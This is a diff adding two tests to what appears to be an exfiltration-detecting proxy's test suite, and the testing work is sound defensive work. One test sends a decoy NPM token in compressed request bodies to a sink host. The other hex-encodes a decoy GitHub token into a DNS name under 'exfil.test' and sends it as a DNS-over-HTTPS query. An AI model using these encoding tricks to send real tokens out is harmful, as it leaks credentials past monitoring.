@@ -306,6 +306,31 @@ def test_plain_http_gzip_body_is_decoded_before_scanning(proxy: Proxy) -> None:
     assert rec["decoy_where"] == ["body:plain"]
 
 
+@pytest.mark.parametrize("coding", ["br", "zstd", "gzip, br"])
+def test_brotli_and_zstd_bodies_are_decoded_capped_before_scanning(
+    proxy: Proxy, coding: str
+) -> None:
+    import brotli
+    import zstandard
+
+    npm = proxy.decoy("NPM_TOKEN")
+    path = f"/{tag()}"
+    raw = json.dumps({"npmrc": npm.value}).encode()
+    for token in [t.strip() for t in coding.split(",")]:  # in the order they were applied
+        raw = {"br": brotli.compress, "gzip": gzip.compress,
+               "zstd": zstandard.ZstdCompressor().compress}[token](raw)  # fmt: skip
+    with session() as s:
+        s.post(
+            f"http://{SINK}{path}",
+            data=raw,
+            headers={"Content-Encoding": coding},
+            proxies=proxy.proxies(),
+            timeout=10,
+        )
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert (rec["decoy_seen"], rec["decoy_where"]) == (["NPM_TOKEN"], ["body:plain"])
+
+
 def test_base64_of_a_json_dump_is_found_in_the_body(proxy: Proxy) -> None:
     decoys = proxy.decoys
     path = f"/{tag()}"
@@ -441,6 +466,31 @@ def test_each_port_attributes_its_label(proxy: Proxy) -> None:
 
 
 # --------------------------------------------------------------------------- registries
+
+
+def test_dns_over_https_is_named_with_the_name_it_asked_and_searched(proxy: Proxy) -> None:
+    import dns.message
+
+    token = proxy.decoy("GITHUB_TOKEN").value
+    name = f"{token.encode().hex()[:60]}.{token.encode().hex()[60:]}.exfil.test"
+    query = dns.message.make_query(name, "A")
+    query.id = 0
+    encoded = base64.urlsafe_b64encode(query.to_wire()).decode().rstrip("=")
+    with session() as s:
+        s.get(
+            "https://dns.google/dns-query",
+            params={"dns": encoded},
+            headers={"accept": "application/dns-message"},
+            proxies=proxy.proxies(),
+            verify=str(proxy.bundle),
+            timeout=10,
+        )
+        s.get("https://dns.google/", proxies=proxy.proxies(), verify=str(proxy.bundle))
+    doh, page = proxy.records(lambda r: r["host"] == "dns.google")
+    assert (doh["dns_name"], doh["action"]) == (name, "sunk")  # never reached the resolver
+    assert doh["decoy_seen"] == ["GITHUB_TOKEN"]
+    assert "doh:hex" in doh["decoy_where"]
+    assert "dns_name" not in page
 
 
 @pytest.mark.parametrize("method", ["PUT", "POST"])
